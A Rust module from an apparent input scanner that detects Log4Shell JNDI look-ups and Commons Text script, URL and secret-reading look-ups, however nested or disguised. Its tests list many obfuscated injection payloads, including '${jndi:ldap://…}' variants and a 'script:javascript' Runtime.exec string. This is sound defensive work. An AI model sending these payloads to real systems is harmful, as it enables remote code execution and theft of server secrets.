//! Look-ups: `${jndi:…}` however it is nested and spelled, and the look-ups of Commons Text that run or fetch.
//!
//! **In:** a decoded value. **Out:** hits of class `jndi`.
//! **Invariant:** nested look-ups are reduced as Log4j does, inside out: `${lower:J}` is `j`, `${anything:-x}` is `x`, what has no
//! value is nothing. A frame that comes to read `jndi:` is the attack, whatever it was written as.
//! **Source:** Log4j 2 manual, "Lookups" and "Property Substitution"; Commons Text `StringSubstitutor` (CVE-2022-42889).
//! **Cost:** one pass with the innermost [`DEPTH`] frames, [`ROOM`] bytes each; a frame that closes moves at most these.

use super::super::places::{Places, Set};
use super::bytes::{BRACE, DOLLAR, contains, has_at, rest};
use super::triggers::{COLON, JNDI};
use super::{Class, Hits, Strength, View};

/// Words no pattern of this file can do without, unless a `$` stands for it.
pub(super) const WORDS: &[&[u8]] = &[b"jndi"];

/// Frames that are kept, a power of two.
const DEPTH: usize = 16;
/// Bytes that are kept of how a frame begins.
const ROOM: usize = 48;

static DOLLARS: Set = Set::of(b"$");

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    // Every look-up has its `:`, however the rest of it is spelled.
    if view.marks & COLON == 0 || (view.classes & DOLLAR == 0 && view.words & JNDI == 0) {
        return;
    }
    super::spend(steps, view.bytes.len());
    if let Some(at) = address(view.bytes) {
        hits.add(Class::Jndi, Strength::Decisive, at);
        return;
    }
    if view.classes & DOLLAR != 0 && view.classes & BRACE != 0 {
        if is_lookup(view.bytes) {
            hits.add(Class::Jndi, Strength::Decisive, 0);
            return;
        }
        // Its letters are copied, and the copy searched.
        super::spend(steps, view.bytes.len().saturating_mul(6));
        let mut reduced = Reduced::default();
        let mut dollars = Places::of(view.bytes, &DOLLARS);
        let mut at = 0_usize;
        loop {
            // Outside of look-ups only `$` means something.
            if reduced.open == 0 && !reduced.dollar {
                let Some(dollar) = dollars.from(at) else {
                    return;
                };
                at = dollar;
            }
            let Some(&here) = view.bytes.get(at) else {
                return;
            };
            if reduced.push(here) {
                hits.add(Class::Jndi, Strength::Decisive, at);
                return;
            }
            at = at.saturating_add(1);
        }
    }
}

/// Bytes of a look-up that is a whole value.
const WHOLE: usize = 80;

/// `${sys:java.version}`, `${env:AWS_SECRET_KEY}`: a look-up of Log4j and Spring as the whole value, of what the server keeps to
/// itself. `${env:HOME}` is a setting of editors and of build tools, too.
fn is_lookup(value: &[u8]) -> bool {
    const KEPT: [&[u8]; 9] = [
        b"secret",
        b"key",
        b"token",
        b"pass",
        b"pwd",
        b"cred",
        b"aws_",
        b"database",
        b"private",
    ];
    let text = value.trim_ascii();
    let inside = text
        .strip_prefix(b"${")
        .and_then(|text| text.strip_suffix(b"}"))
        .filter(|inside| inside.len() <= WHOLE);
    let Some(inside) = inside else { return false };
    let named = |prefix: &[u8]| {
        let name = rest(inside, prefix.len());
        has_at(inside, 0, prefix)
            && !name.is_empty()
            && name
                .iter()
                .all(|&byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-'))
    };
    // Commons Text decodes, fetches and reads.
    let fetched = [
        &b"dns:address|"[..],
        b"dns:canonical|",
        b"base64decoder:",
        b"base64encoder:",
        b"urldecoder:",
        b"const:java.",
        b"file:utf-8:",
        b"localhost:canonical",
    ]
    .iter()
    .any(|prefix| has_at(inside, 0, prefix));
    // `${::-j}`: a letter that is only a default, of a look-up without a name.
    let letter = inside.starts_with(b"::-") && inside.len() <= 5;
    fetched
        || letter
        || [
            &b"sys:"[..],
            b"java:",
            b"log4j:",
            b"docker:",
            b"k8s:",
            b"ctx:",
            b"spring:",
            b"web:",
            b"main:",
            b"jvmrunargs:",
            b"bundle:application:",
        ]
        .iter()
        .any(|prefix| named(prefix))
        || named(b"env:") && KEPT.iter().any(|word| contains(inside, word))
}

/// `jndi:` and the scheme of a directory.
fn address(value: &[u8]) -> Option<usize> {
    let mut from = 0_usize;
    while let Some(step) = rest(value, from).iter().position(|&byte| byte == b':') {
        let colon = from.saturating_add(step);
        from = colon.saturating_add(1);
        let Some(at) = colon
            .checked_sub(4)
            .filter(|&at| has_at(value, at, b"jndi"))
        else {
            continue;
        };
        let scheme = [
            &b"ldap"[..],
            b"rmi",
            b"dns",
            b"iiop",
            b"corba",
            b"nis",
            b"nds",
            b"http",
        ]
        .iter()
        .any(|scheme| has_at(value, from, scheme));
        let tail = rest(value, from);
        let colon = tail.iter().take(8).any(|&byte| byte == b':');
        if scheme && colon {
            return Some(at);
        }
    }
    None
}

/// A look-up that is open.
#[derive(Clone, Copy)]
struct Frame {
    /// How its text begins, in lower case.
    text: [u8; ROOM],
    length: usize,
    /// The text is what stands behind `:-`.
    default: bool,
}

const EMPTY: Frame = Frame {
    text: [0; ROOM],
    length: 0,
    default: false,
};

impl Frame {
    fn keep(&mut self, byte: u8) {
        if let Some(slot) = self.text.get_mut(self.length) {
            *slot = byte;
            self.length = self.length.saturating_add(1);
        }
    }

    fn text(&self) -> &[u8] {
        self.text.get(..self.length).unwrap_or(&[])
    }

    /// Whether it has come to name a look-up that runs or fetches.
    fn opens(&self) -> bool {
        let text = self.text();
        let script = text
            .strip_prefix(b"script:")
            .and_then(|engine| engine.strip_suffix(b":"))
            .is_some_and(|engine| {
                !engine.is_empty() && engine.iter().all(u8::is_ascii_alphanumeric)
            });
        !self.default && (text.starts_with(b"jndi:") || text == b"url:utf-8:" || script)
    }

    /// What it stands for: a default, or a text that a function of Log4j returns as it is.
    fn value(&self) -> &[u8] {
        let text = self.text();
        if self.default {
            return text;
        }
        [
            &b"lower:"[..],
            b"upper:",
            b"date:",
            b"const:",
            b"urldecoder:",
        ]
        .iter()
        .find_map(|prefix| text.strip_prefix(*prefix))
        .unwrap_or(&[])
    }
}

/// What a value reads once its look-ups are replaced.
struct Reduced {
    /// A ring: where more are open than it holds, the outermost are forgotten.
    frames: [Frame; DEPTH],
    top: usize,
    open: usize,
    /// The last byte was a `$` that may open a frame.
    dollar: bool,
    /// The last byte was a `:` that may begin a default.
    colon: bool,
}

impl Default for Reduced {
    fn default() -> Self {
        Self {
            frames: [EMPTY; DEPTH],
            top: 0,
            open: 0,
            dollar: false,
            colon: false,
        }
    }
}

impl Reduced {
    /// The innermost open frame.
    fn innermost(&mut self) -> Option<&mut Frame> {
        if self.open == 0 {
            return None;
        }
        self.frames.get_mut(self.top)
    }

    /// Reads a byte; whether a look-up that runs something opened.
    fn push(&mut self, here: u8) -> bool {
        let (dollar, colon) = (self.dollar, self.colon);
        self.dollar = here == b'$';
        self.colon = here == b':';
        if here == b'{' && dollar {
            if let Some(frame) = self.innermost() {
                frame.length = frame.length.saturating_sub(1);
            }
            self.top = self.top.wrapping_add(1) & DEPTH.wrapping_sub(1);
            self.open = self.open.saturating_add(1).min(DEPTH);
            if let Some(frame) = self.innermost() {
                (frame.length, frame.default) = (0, false);
            }
            return false;
        }
        if here == b'}' && self.open > 0 {
            return self.close();
        }
        let Some(frame) = self.innermost() else {
            return false;
        };
        if here == b'-' && colon && !frame.default {
            (frame.length, frame.default) = (0, true);
            return false;
        }
        frame.keep(here.to_ascii_lowercase());
        here == b':' && frame.opens()
    }

    /// Replaces the innermost frame by its value; whether the one around it opens now.
    fn close(&mut self) -> bool {
        let Some(frame) = self.frames.get(self.top).copied() else {
            return false;
        };
        self.open = self.open.saturating_sub(1);
        self.top = self.top.wrapping_sub(1) & DEPTH.wrapping_sub(1);
        let value = frame.value();
        self.dollar = value.last() == Some(&b'$');
        let Some(outer) = self.innermost() else {
            return false;
        };
        let mut left = value;
        while let Some((&head, after)) = left.split_first() {
            // The dotless i, in upper case, is an I; dates quote their text.
            match (head, after.first()) {
                (0xC4, Some(0xB1)) => {
                    outer.keep(b'i');
                    left = rest(after, 1);
                    continue;
                }
                (b'\'', _) => {}
                _ => outer.keep(head),
            }
            left = after;
        }
        outer.opens()
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Strength, hits_of};

    #[test]
    fn look_ups_are_reduced() {
        for value in [
            "${jndi:ldap://a.example/x}",
            "x ${JnDi:rmi://a/b} y",
            "${${lower:j}ndi:ldap://a/x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://a/x}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://a/x}",
            "${${lower:${upper:j}}${upper:n}di:dns://a}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}${lower:l}dap://a/x}",
            "$${env:a:-${env:b:-$}{jndi:ldap://a/x}}}",
            "${${date:'j'}${date:'n'}di:ldap://a}",
            "${jnd${upper:ı}:ldap://a/x}",
            "$${${lower:j}ndi:x}",
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "${${lower:s}cript:js:1}",
            "${url:UTF-8:http://a/}",
            "$&lbracejndi:ldap://a/x}",
        ] {
            let hits = hits_of(value.as_bytes());
            assert!(
                hits.contains(&(Class::Jndi, Strength::Decisive)),
                "{value}: {hits:?}"
            );
        }
    }

    #[test]
    fn templates_and_talk_are_none() {
        for value in [
            "Hello ${name}, welcome",
            "${VAR:-default}",
            "${env:HOME}/bin",
            "cost: ${price:-10} of ${currency}",
            "is jndi: still on by default?",
            "${date:yyyy-MM-dd}",
            "${user.name} ${lower:ABC}",
            "${{ matrix.os }}",
            "jndi is fine",
        ] {
            let hits = hits_of(value.as_bytes());
            assert!(
                !hits.iter().any(|(class, _)| *class == Class::Jndi),
                "{value}: {hits:?}"
            );
        }
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let mut value = "${".repeat(10_000);
        value.push_str("jndi:ldap://a/");
        assert!(!hits_of(value.as_bytes()).is_empty());
        let value = format!("${{{}${{jndi:x}}", "a".repeat(5000));
        assert!(!hits_of(value.as_bytes()).is_empty());
        let value = format!("${{${{env:{}:-j}}ndi:x}}", "a".repeat(5000));
        assert!(!hits_of(value.as_bytes()).is_empty());
        let long = format!("${{{}:-{}}}", "a".repeat(5000), "b".repeat(5000));
        assert!(hits_of(long.as_bytes()).is_empty());
    }

    #[test]
    fn look_ups_of_what_the_server_keeps() {
        let caught =
            |value: &str| hits_of(value.as_bytes()).contains(&(Class::Jndi, Strength::Decisive));
        for value in [
            "${sys:java.version}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            " ${env:DB_PASSWORD}",
            "${java:os}",
            "${ctx:loginId}",
            "${dns:address|x.example}",
            "${base64Decoder:eA==}",
        ] {
            assert!(caught(value), "{value}");
        }
        for value in [
            "${env:HOME}",
            "${date:yyyy}",
            "${const}",
            "${env:STAGE}",
            "${sys:}",
            "${workspaceFolder}",
            "set ${env:API_KEY} first",
        ] {
            assert!(!caught(value), "{value}");
        }
    }
}
